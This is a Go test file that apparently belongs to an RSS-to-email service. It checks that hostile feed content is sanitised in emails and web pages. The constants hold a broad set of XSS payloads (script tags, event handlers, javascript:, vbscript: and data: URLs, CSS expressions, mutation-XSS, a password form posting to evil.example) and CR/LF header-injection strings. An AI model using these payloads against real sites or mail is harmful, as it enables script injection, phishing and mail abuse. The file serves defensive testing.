package security

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/feedmail/feedmail/internal/notices"
	"github.com/feedmail/feedmail/internal/store"
)

// docServer serves one feed document that the test can change, with an
// ETag that changes with it.
type docServer struct {
	srv *httptest.Server
	doc atomic.Value
	n   atomic.Int64
}

func newDocServer(t *testing.T, doc string) *docServer {
	t.Helper()
	d := &docServer{}
	d.set(doc)
	d.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		etag := `"v` + strings.Repeat("x", int(d.n.Load())) + `"`
		if r.Header.Get("If-None-Match") == etag {
			w.WriteHeader(http.StatusNotModified)
			return
		}
		w.Header().Set("ETag", etag)
		w.Header().Set("Content-Type", "application/rss+xml; charset=utf-8")
		_, _ = w.Write([]byte(d.doc.Load().(string)))
	}))
	t.Cleanup(d.srv.Close)
	return d
}

func (d *docServer) set(doc string) {
	d.doc.Store(doc)
	d.n.Add(1)
}

func (d *docServer) url() string { return d.srv.URL + "/feed.xml" }

// hostileTitle tries to break out of the From display name, the Subject,
// List-Id and the pages' HTML: markup, quotes, CR/LF (as XML character
// references, which the parser turns into real CR and LF), a NUL-like
// control character and a bidi override.
const hostileTitle = `Evil &lt;script&gt;alert("feed")&lt;/script&gt; "Feed"&#13;&#10;Bcc: victim@example.net&#13;&#10;X-Injected: yes &#x202E;gnp.exe`

// hostileContent is an item body with every classic way to run script or
// leave the page, XML-escaped for an RSS description.
const hostileContent = `&lt;p onclick="alert(1)"&gt;Hello&lt;script&gt;alert(2)&lt;/script&gt;` +
	`&lt;img src="https://evil.example/i.png" onerror="alert(3)"&gt;` +
	`&lt;a href="javascript:alert(4)"&gt;js&lt;/a&gt; &lt;a href="JaVaScRiPt&amp;#58;alert(5)"&gt;entity js&lt;/a&gt; ` +
	`&lt;a href="java&amp;#x09;script:alert(6)"&gt;tab js&lt;/a&gt; &lt;a href=" vbscript:msgbox(7)"&gt;vb&lt;/a&gt; ` +
	`&lt;a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg=="&gt;data link&lt;/a&gt;` +
	`&lt;img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOSk+"&gt;` +
	`&lt;div style="width: expression(alert(10)); background: url(javascript:alert(11))"&gt;css&lt;/div&gt;` +
	`&lt;p style="behavior: url(x.htc); -moz-binding: url(x.xml#y)"&gt;binding&lt;/p&gt;` +
	`&lt;style&gt;body{background:url("javascript:alert(12)")}&lt;/style&gt;` +
	`&lt;iframe src="javascript:alert(13)"&gt;&lt;/iframe&gt;&lt;svg onload="alert(14)"&gt;&lt;circle/&gt;&lt;/svg&gt;` +
	`&lt;form action="https://evil.example/steal"&gt;&lt;input name="password"&gt;&lt;button formaction="javascript:alert(15)"&gt;go&lt;/button&gt;&lt;/form&gt;` +
	`&lt;meta http-equiv="refresh" content="0;url=https://evil.example/"&gt;&lt;base href="https://evil.example/"&gt;` +
	`&lt;object data="javascript:alert(16)"&gt;&lt;/object&gt;&lt;embed src="javascript:alert(17)"&gt;` +
	`&lt;math&gt;&lt;mtext&gt;&lt;table&gt;&lt;mglyph&gt;&lt;style&gt;&lt;img src=x onerror=alert(18)&gt;&lt;/style&gt;&lt;/mglyph&gt;&lt;/table&gt;&lt;/mtext&gt;&lt;/math&gt;` +
	`&lt;a href="https://ok.example/" onmouseover="alert(19)"&gt;ok link&lt;/a&gt;` +
	`&lt;img srcset="javascript:alert(20) 1x, https://ok.example/i.png 2x"&gt;` +
	`&lt;noscript&gt;&lt;p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(21)&gt;"&gt;&lt;/noscript&gt;&lt;/p&gt;`

func hostileFeed(items string) string {
	return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
<title>` + hostileTitle + `</title>
<link>javascript:alert('site')</link>
<description>d</description>
` + items + `</channel></rss>`
}

const quietItem = `<item><title>Old post</title><link>https://ok.example/old</link><guid>old-1</guid>
<pubDate>Mon, 23 Nov 2026 06:00:00 GMT</pubDate><description>&lt;p&gt;old&lt;/p&gt;</description></item>
`

const hostileItem = `<item><title>&lt;img src=x onerror=alert("t")&gt; Breaking&#13;&#10;Bcc: victim@example.net&#10;X-Injected: 1</title>
<link>javascript:alert('item')</link><guid>evil-1</guid>
<dc:creator>Mallory&#13;&#10;X-Injected: author</dc:creator>
<pubDate>Mon, 23 Nov 2026 08:30:00 GMT</pubDate>
<description>` + hostileContent + `</description></item>
<item><title>Second</title><link>https://ok.example/2</link><guid>evil-2</guid>
<pubDate>Mon, 23 Nov 2026 08:31:00 GMT</pubDate>
<description>&lt;a href="https://ok.example/fine"&gt;a fine link&lt;/a&gt; &lt;a href="/relative"&gt;relative&lt;/a&gt;</description></item>
`

// TestHostileFeedContentEndToEnd: a feed whose title, site link, item
// titles, author and bodies carry script, event handlers, javascript:,
// vbscript: and data: URLs, CSS expressions, forms, frames, a meta refresh,
// mutation-XSS shapes and CR/LF header injections, polled for one instant
// and one digest reader. The instant email and the digest issue as
// received over SMTP, the public status page and the reader's account
// page contain none of it in a form that runs (checked with an HTML
// tokenizer, not by searching for strings), no header line was injected,
// and the pages keep their Content-Security-Policy.
func TestHostileFeedContentEndToEnd(t *testing.T) {
	e := newEnv(t, envOpt{})
	ds := newDocServer(t, hostileFeed(quietItem))
	f, _, err := e.st.EnsureFeed(e.ctx, ds.url())
	if err != nil {
		t.Fatal(err)
	}
	instant, _ := e.reader("instant@example.net", f.ID, "")
	e.reader("digest@example.net", f.ID, "Morning")
	e.pollAll() // first poll: seen, nothing mailed
	ds.set(hostileFeed(hostileItem + quietItem))
	e.clk.Advance(time.Hour)
	e.pollAll()
	if n, _, _ := e.st.CountItems(e.ctx, f.ID); n != 3 {
		t.Fatalf("%d items recorded, want 3", n)
	}
	e.clk.Advance(2 * time.Hour) // the digest slot has come
	if _, err := e.dig.AssembleDue(e.ctx); err != nil {
		t.Fatal(err)
	}
	e.sendAll()

	msgs := e.smtp.Messages()
	if len(msgs) != 3 { // two instant emails, one digest
		t.Fatalf("%d messages received, want 3", len(msgs))
	}
	for _, m := range msgs {
		pm := parseMail(t, m.Raw)
		subj := pm.header.Get("Subject")
		t.Run("email "+subj, func(t *testing.T) {
			for _, b := range injectedHeaders(pm, "Bcc", "X-Injected", "Cc", "Reply-To") {
				t.Error(b)
			}
			if pm.html == "" || pm.text == "" {
				t.Fatalf("missing a part: text %d bytes, html %d bytes", len(pm.text), len(pm.html))
			}
			for _, b := range unsafeHTML(pm.html, false) {
				t.Errorf("HTML part: %s", b)
			}
			if strings.Contains(subj, "Breaking") && (!strings.Contains(pm.html, "Hello") ||
				!strings.Contains(pm.html, `href="https://ok.example/"`)) {
				t.Errorf("the safe parts of the post did not survive:\n%s", pm.html)
			}
			if testing.Verbose() {
				t.Logf("headers:\n%s\nHTML:\n%s", pm.rawHeader, pm.html)
			}
			low := strings.ToLower(squeeze(pm.text))
			for _, s := range []string{"<javascript:", "<vbscript:", "<data:", "javascript:alert('item')"} {
				if strings.Contains(low, s) {
					t.Errorf("text part links %s", s)
				}
			}
		})
	}

	// The public status page and the reader's account page show the
	// hostile title as text.
	pages := map[string]string{
		"status page":  "/feeds/status?url=" + url.QueryEscape(f.URL),
		"account page": strings.TrimPrefix(e.links.Account(instant.ID, e.clk.Now()), baseURL),
	}
	for name, path := range pages {
		t.Run(name, func(t *testing.T) {
			w := e.request("GET", path, nil, nil)
			body := w.Body.String()
			if w.Code != http.StatusOK {
				t.Fatalf("%d\n%s", w.Code, body)
			}
			if !strings.Contains(body, "Evil &lt;script&gt;") {
				t.Errorf("the feed title is not shown escaped")
			}
			for _, b := range unsafeHTML(body, true) {
				t.Errorf("%s", b)
			}
			csp := w.Header().Get("Content-Security-Policy")
			if !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
				t.Errorf("CSP %q", csp)
			}
		})
	}
	if f2 := e.feedByURL(ds.url()); strings.Contains(f2.SiteURL, "javascript") {
		t.Errorf("a javascript: site URL was stored: %q", f2.SiteURL)
	}
	var it store.Item
	if err := e.st.DB.Where("feed_id = ? AND guid = ?", f.ID, "evil-1").Take(&it).Error; err != nil {
		t.Fatal(err)
	}
	if strings.Contains(it.Link, "javascript") {
		t.Errorf("a javascript: item link was stored: %q", it.Link)
	}
}

// TestHostileTitleInConfirmationEmail: signing up for a feed whose title
// carries CR/LF and markup: the confirmation email (a free notice naming
// the feed in its body, never in its Subject) has no injected header and
// no unsafe HTML.
func TestHostileTitleInConfirmationEmail(t *testing.T) {
	e := newEnv(t, envOpt{})
	ds := newDocServer(t, hostileFeed(quietItem))
	w := e.request("POST", "/subscriptions", url.Values{"email": {"new@example.net"}, "url": {ds.url()}, "delivery": {"instant"},
		"zone": {"UTC"}}, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("signup: %d\n%s", w.Code, w.Body)
	}
	e.sendAll()
	msgs := e.smtp.Messages()
	if len(msgs) != 1 {
		t.Fatalf("%d messages, want the confirmation", len(msgs))
	}
	pm := parseMail(t, msgs[0].Raw)
	// The feed's words stay out of the Subject (an attacker's title would
	// speak in feedmail's name); the body quotes it.
	if sub := pm.header.Get("Subject"); sub != notices.ConfirmSubject {
		t.Errorf("subject %q, want feedmail's own %q", sub, notices.ConfirmSubject)
	}
	if !strings.Contains(pm.text, "Evil") {
		t.Errorf("text part does not name the feed:\n%s", pm.text)
	}
	for _, b := range injectedHeaders(pm, "Bcc", "X-Injected") {
		t.Error(b)
	}
	for _, b := range unsafeHTML(pm.html, false) {
		t.Errorf("HTML part: %s", b)
	}
}

// TestSignupAddressInjection: an email address carrying a header (CR/LF,
// or a second address) is refused by the signup form; nothing is queued.
func TestSignupAddressInjection(t *testing.T) {
	e := newEnv(t, envOpt{})
	ds := newDocServer(t, hostileFeed(quietItem))
	for _, addr := range []string{
		"ann@example.net\r\nBcc: victim@example.net",
		"ann@example.net\nBcc: victim@example.net",
		"ann@example.net, victim@example.net",
		"Ann <ann@example.net>\r\nX-Injected: 1",
		"ann@example.net%0d%0aBcc:victim@example.net",
	} {
		w := e.request("POST", "/subscriptions", url.Values{"email": {addr}, "url": {ds.url()}, "delivery": {"instant"}}, nil)
		if w.Code == http.StatusOK && strings.Contains(w.Body.String(), "Check your inbox") {
			var rows []store.OutboxRow
			e.st.DB.Find(&rows)
			for _, r := range rows {
				if strings.ContainsAny(r.Address, "\r\n,") || strings.Contains(r.Address, "victim") {
					t.Errorf("%q queued mail to %q", addr, r.Address)
				}
			}
		}
	}
	e.sendAll()
	for _, m := range e.smtp.Messages() {
		for _, rcpt := range m.To {
			if strings.Contains(rcpt, "victim") {
				t.Errorf("mail went to %s", rcpt)
			}
		}
		for _, b := range injectedHeaders(parseMail(t, m.Raw), "Bcc", "X-Injected") {
			t.Error(b)
		}
	}
}
